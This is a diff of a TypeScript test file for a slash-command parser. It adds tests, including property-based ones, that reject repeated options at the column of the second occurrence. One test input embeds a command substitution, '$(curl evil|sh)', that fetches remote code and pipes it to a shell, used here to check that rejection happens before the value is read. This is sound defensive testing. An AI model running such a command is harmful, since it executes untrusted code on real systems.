@@ -76,8 +76,30 @@ describe('parseSlashCommand', () => {
     });
   });
 
-  it('keeps the last value of a repeated key', () => {
-    expect(parse('/orchestrate a=1 a=2')).toMatchObject({ ok: true, value: { named: { a: '2' } } });
+  it('rejects a repeated option at the column of the second, before looking at its value', () => {
+    expect(parse('/orchestrate a=1 a=2')).toEqual({
+      ok: false,
+      error: {
+        code: 'repeated_option',
+        column: 18,
+        message: 'column 18: option "a" is given more than once (first at column 14)',
+      },
+    });
+    expect(parse('/orchestrate prompt="$(curl evil|sh)" prompt=triage')).toMatchObject({
+      ok: false,
+      error: { code: 'repeated_option', column: 39 },
+    });
+  });
+
+  it('rejects a repeated static argument as a configuration problem', () => {
+    expect(parse('/orchestrate', 'wave=a wave=b')).toMatchObject({
+      ok: false,
+      error: {
+        code: 'invalid_static_arguments',
+        column: null,
+        message: 'static arguments: option "wave" is given more than once',
+      },
+    });
   });
 
   it('stores odd names as own data, never on the prototype', () => {
@@ -176,13 +198,42 @@ describe('parseSlashCommand', () => {
     const name = fc.stringMatching(/^[A-Za-z0-9_-]{1,8}$/);
     const value = fc.string({ minLength: 1, maxLength: 20 }).filter((text) => !/[\r\n]/.test(text));
     fc.assert(
-      fc.property(fc.array(fc.tuple(name, value), { maxLength: 10 }), (pairs) => {
-        const quote = (text: string) => `"${text.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
-        const line = `/orchestrate ${pairs.map(([k, v]) => `${k}=${quote(v)}`).join(' ')}`;
-        const result = parse(line);
-        expect(result.ok).toBe(true);
-        if (result.ok) expect(result.value.named).toEqual(Object.fromEntries(pairs));
-      }),
+      fc.property(
+        fc.uniqueArray(fc.tuple(name, value), { maxLength: 10, selector: ([k]) => k }),
+        (pairs) => {
+          const quote = (text: string) => `"${text.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
+          const line = `/orchestrate ${pairs.map(([k, v]) => `${k}=${quote(v)}`).join(' ')}`;
+          const result = parse(line);
+          expect(result.ok).toBe(true);
+          if (result.ok) expect(result.value.named).toEqual(Object.fromEntries(pairs));
+        },
+      ),
+    );
+  });
+
+  it('rejects every command with a repeated option, at the column of the second', () => {
+    const name = fc.stringMatching(/^[A-Za-z0-9_-]{1,8}$/);
+    const value = fc.string({ minLength: 1, maxLength: 12 }).filter((text) => !/[\s"]/u.test(text));
+    fc.assert(
+      fc.property(
+        fc.uniqueArray(fc.tuple(name, value), { minLength: 1, maxLength: 8, selector: ([k]) => k }),
+        fc.nat(),
+        fc.nat(),
+        value,
+        (pairs, pick, offset, again) => {
+          const words = pairs.map(([k, v]) => `${k}=${v}`);
+          const first = pick % pairs.length;
+          const at = first + 1 + (offset % (pairs.length - first));
+          words.splice(at, 0, `${pairs[first]?.[0] ?? ''}=${again}`);
+          const line = `/orchestrate ${words.join(' ')}`;
+          const column = `/orchestrate ${words.slice(0, at).join(' ')} `.length + 1;
+          expect(parse(line)).toMatchObject({
+            ok: false,
+            error: { code: 'repeated_option', column },
+          });
+        },
+      ),
+      { seed: 1203, numRuns: 300 },
     );
   });
 });
